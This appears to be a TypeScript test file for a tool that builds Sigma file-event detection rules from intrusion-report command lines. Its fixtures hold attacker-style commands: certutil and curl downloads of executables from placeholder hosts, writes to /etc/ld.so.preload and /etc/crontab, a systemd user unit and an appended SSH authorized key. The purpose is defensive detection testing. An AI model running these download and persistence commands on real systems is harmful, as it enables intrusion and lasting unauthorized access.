import { selfTestRule } from '../evaluate/self-test';
import { generateBuiltinRules, type BuiltinSigmaInput } from './builtin-sigma-agent';
import { droppedFileRules } from './dropped-files';

const article = { title: 'Quill intrusion notes', url: 'https://notes.example.org/quill', date: '2026-11-28' };
const evidence = { start: 0, end: 1, text: 'x' };
const cited = 'described in the notes';

const fileRules = (platform: BuiltinSigmaInput['platform'], ...values: string[]) =>
  generateBuiltinRules({
    article,
    platform,
    cmdlines: values.map((value) => ({ evidence, confidence: 0.9, value, executable: '' })),
  }).filter((draft) => draft.telemetryClass === 'file_event');
const fires = (rule: object, value: string) => selfTestRule(rule as Record<string, unknown>, [{ type: 'cmdline', value }]).fires;

describe('file-event rules on the files the programs write', () => {
  it('keys a Windows download on the downloader, the folder without the user, and the name', () => {
    const [rule] = fileRules('windows', 'certutil.exe -urlcache -split -f http://203.0.113.7/quilltool.exe %APPDATA%\\quilltool.exe');
    expect(rule?.rule.logsource).toEqual({ category: 'file_event', product: 'windows' });
    expect(rule?.rule.detection['selection']).toEqual({
      'Image|endswith': '\\certutil.exe',
      'TargetFilename|contains': '\\AppData\\Roaming\\',
      'TargetFilename|endswith': '\\quilltool.exe',
    });
    const shown = 'certutil -urlcache -f http://198.51.100.9/quilltool.exe C:\\Users\\ann\\AppData\\Roaming\\quilltool.exe';
    expect(fires(rule?.rule as object, shown)).toBe(true);
    expect(fires(rule?.rule as object, 'curl -o C:\\Users\\ann\\AppData\\Roaming\\quilltool.exe http://198.51.100.9/q')).toBe(false);
  });

  it('keys a program dropped into the Public folders on its kind, whatever its name, as SigmaHQ keys the folder', () => {
    const [rule] = fileRules('windows', 'certutil.exe -urlcache -split -f http://203.0.113.7/q.exe %PUBLIC%\\q.exe');
    expect(rule?.rule.detection['selection']).toEqual({
      'Image|endswith': '\\certutil.exe',
      'TargetFilename|contains': ':\\Users\\Public\\',
      'TargetFilename|endswith': '.exe',
    });
    expect(fires(rule?.rule as object, 'certutil -urlcache -f http://198.51.100.9/z.exe C:\\Users\\Public\\z.exe')).toBe(true);
    expect(fires(rule?.rule as object, 'certutil -urlcache -f http://198.51.100.9/z.txt C:\\Users\\Public\\z.txt')).toBe(false);
  });

  it('keys a startup item on the folder and its kind', () => {
    const startup = fileRules(
      'windows',
      'copy C:\\ProgramData\\q.lnk "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\q.lnk"',
    );
    expect(startup.map((draft) => draft.rule.detection['selection'])).toContainEqual({
      'TargetFilename|contains': '\\Start Menu\\Programs\\Startup\\',
      'TargetFilename|endswith': '.lnk',
    });
  });

  it('makes no rule of a made-up name, a document or output in common folders', () => {
    expect(
      fileRules('windows', 'cmd /c curl -Lo C:\\Users\\[victim]\\AppData\\Local\\Temp\\v7.msi https://quill.example.net/v7.msi'),
    ).toEqual([]);
    expect(fileRules('windows', 'powershell -c "iwr https://quill.example.net/d -OutFile $env:TEMP\\invoice.pdf"')).toEqual([]);
    expect(fileRules('windows', 'copy a1.txt C:\\Users\\Public\\b2.txt')).toEqual([]);
  });

  it('keys a file whose path is the behaviour on the path alone, whichever program or redirection wrote it', () => {
    const rules = fileRules('linux', "echo '/usr/local/lib/quill.so' | tee -a /etc/ld.so.preload", 'echo "@reboot /opt/q" >> /etc/crontab');
    expect(rules.map((draft) => [draft.rule.title, draft.rule.detection['selection']])).toEqual([
      ['Dynamic Linker Preload File Written', { TargetFilename: '/etc/ld.so.preload' }],
      ['System Crontab Written', { TargetFilename: '/etc/crontab' }],
    ]);
    for (const draft of rules)
      expect(
        selfTestRule(draft.rule as Record<string, unknown>, [
          { type: 'cmdline', value: 'echo x | tee /etc/ld.so.preload' },
          { type: 'cmdline', value: 'echo y >> /etc/crontab' },
        ]).fires,
      ).toBe(true);
  });

  it('leaves a Unix redirection into a folder to the shell-write rule, and makes no rule of output in common places', () => {
    const rules = droppedFileRules([{ product: 'linux', commandLine: 'base64 -d > /run/systemd/system/quill.service' }], cited);
    expect(rules).toEqual([]);
    expect(droppedFileRules([{ product: 'linux', commandLine: 'curl -o /tmp/a1 https://quill.example.net/a1' }], cited)).toEqual([]);
  });

  it('keeps a Windows redirection that writes a script into a folder of the intrusion, not captured output', () => {
    const [rule] = fileRules('windows', 'cmd /c echo start C:\\ProgramData\\Quill\\q.exe > C:\\ProgramData\\Quill\\quillrun.bat');
    expect(rule?.rule.detection['selection']).toEqual({
      'TargetFilename|contains': ':\\ProgramData\\Quill\\',
      'TargetFilename|endswith': '\\quillrun.bat',
    });
    expect(fires(rule?.rule as object, 'echo x > C:\\ProgramData\\Quill\\quillrun.bat')).toBe(true);
    expect(fileRules('windows', 'whoami /all > C:\\ProgramData\\Quill\\who.txt')).toEqual([]);
  });
});

describe('files copied or downloaded into persistence folders and homes', () => {
  it("keys a unit copied into a user's systemd folder on the folder after the home, and the name", () => {
    const [rule] = fileRules('linux', 'cp /tmp/.q/quill-agent.service ~/.config/systemd/user/');
    expect(rule?.rule.title).toBe('Systemd Unit Or Generator Written');
    expect(rule?.rule.tags).toEqual(['attack.persistence', 'attack.t1543.002']);
    expect(rule?.rule.detection['selection']).toEqual({
      'TargetFilename|contains': '/.config/systemd/user/',
      'TargetFilename|endswith': '/quill-agent.service',
    });
    expect(fires(rule?.rule as object, 'cp x.service $HOME/.config/systemd/user/quill-agent.service')).toBe(true);
  });

  it('reads a home written as ~ or $HOME for the files whose path is the behaviour', () => {
    const [rule] = fileRules('linux', 'echo "ssh-ed25519 AAAAC3Nz quill" >> ~/.ssh/authorized_keys');
    expect(rule?.rule.detection['selection']).toEqual({ 'TargetFilename|endswith': '/.ssh/authorized_keys' });
    expect(fires(rule?.rule as object, 'echo key >> ~/.ssh/authorized_keys')).toBe(true);
  });
});
